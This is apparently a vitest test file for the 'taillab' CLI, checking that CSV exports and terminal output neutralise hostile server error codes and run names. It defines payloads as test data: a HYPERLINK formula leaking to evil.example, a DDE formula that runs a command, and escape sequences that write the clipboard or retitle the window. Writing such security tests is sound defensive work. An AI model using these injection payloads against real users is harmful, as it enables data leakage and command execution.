import { startTestbedServer, type Testbed } from "@taillab/backend";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./test-support/run-cli.ts";

/**
 * A hostile server and hostile names: what a server answers and what a run is called must reach
 * spreadsheets as text and terminals as text, whatever they look like.
 */

const FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak","open")';
const FORMULA_NAME = "=cmd|' /C calc'!A0";
/** Writes the clipboard (OSC 52), rings the bell, then clears the screen. */
const ESCAPE_CODE = "\u001b]52;c;ZXZpbA==\u0007\u001b[2JSlowDown";
/** Sets the window title, then returns to the line's start to print over it. */
const ESCAPE_TEXT = "\u001b]0;pwned\u0007lab\rrun\u009b31m";
const CONTROL_BUT_NEWLINE = /(?!\n)\p{Cc}/u;

let scratch: string;
let server: Testbed;
let gets = 0;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "taillab-cli-hostile-"));
  server = await startTestbedServer({
    buckets: ["loadgen"],
    interceptor: ({ operation }) => {
      if (operation !== "GetObject") return;
      gets += 1;
      const code = gets % 2 === 1 ? FORMULA_CODE : ESCAPE_CODE;
      return { fault: { status: 500, code, message: "hostile" } };
    },
  });
});
afterAll(async () => {
  await server?.close();
  await rm(scratch, { recursive: true, force: true });
});

const KEYS = { AWS_ACCESS_KEY_ID: "any", AWS_SECRET_ACCESS_KEY: "any" };

/** Runs against the hostile server, whose GETs fail with FORMULA_CODE and ESCAPE_CODE in turn. */
function hostileRun(name: string, ...flags: string[]) {
  return runCli(
    [
      "run",
      "--endpoint",
      server.url,
      ...["--clients", "1", "--samples", "2", "--size", "1KiB", "--name", name],
      ...flags,
    ],
    KEYS,
  );
}

/** The cells of a CSV that start like a formula (after an opening quote, if quoted). */
function formulaCells(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,)"?([=+@]|-(?!\d))[^,\r\n]*/gm)].map((match) => match[0]);
}

describe("hostile server codes and run names in CSV", () => {
  it("a server's formula-like error code and a formula-like run name stay text in every CSV", async () => {
    const out = join(scratch, "out");
    const run = await hostileRun(FORMULA_NAME, "--out", out, "--json");
    expect(run.code, run.stderr).toBe(1);
    const { runId } = JSON.parse(run.stdout) as { runId: string };

    const requests = await readFile(join(out, "requests.csv"), "utf8");
    expect(requests).toContain("'=HYPERLINK(");
    expect(formulaCells(requests)).toEqual([]);

    const summaryFile = join(scratch, "summary.csv");
    const requestsFile = join(scratch, "requests.csv");
    for (const args of [
      ["--out", summaryFile],
      ["--requests", "--out", requestsFile],
    ]) {
      const report = await runCli(["report", runId, "--format", "csv", ...args]);
      expect(report.code, report.stderr).toBe(0);
    }
    const summary = await readFile(summaryFile, "utf8");
    expect(summary).toContain(`'${FORMULA_NAME}`);
    expect(summary).toContain("'=HYPERLINK(");
    expect(formulaCells(summary)).toEqual([]);
    const exported = await readFile(requestsFile, "utf8");
    expect(exported).toContain("'=HYPERLINK(");
    expect(formulaCells(exported)).toEqual([]);
  });
});

describe("hostile server codes, names, tags and notes in the terminal", () => {
  it("taillab run, runs list and runs show print no control character but their own newlines", async () => {
    const run = await hostileRun(ESCAPE_TEXT);
    expect(run.code, run.stderr).toBe(1);
    const runId = /Run id: (\S+)/.exec(run.stdout)?.[1] ?? "";
    expect(run.stdout).toContain("]52;c;ZXZpbA==[2JSlowDown: 1");
    const tagged = await runCli(["runs", "tag", runId, `tag${ESCAPE_TEXT}`]);
    const noted = await runCli(["runs", "note", runId, `note${ESCAPE_TEXT}`]);
    const listed = await runCli(["runs", "list"]);
    const shown = await runCli(["runs", "show", runId]);
    for (const [what, result] of Object.entries({ run, tagged, noted, listed, shown })) {
      expect(result.code === 0 || what === "run", `${what}: ${result.stderr}`).toBe(true);
      expect(result.stdout + result.stderr, what).not.toMatch(CONTROL_BUT_NEWLINE);
    }
    expect(listed.stdout).toContain("]0;pwnedlabrun31m");
    expect(shown.stdout).toMatch(/^]0;pwnedlabrun31m \(/);
    expect(shown.stdout).toContain("tags: tag]0;pwnedlabrun31m\n");
    expect(shown.stdout).toContain("notes: note]0;pwnedlabrun31m\n");
    expect(shown.stdout.split("\n").length).toBeGreaterThan(10);
  });
});
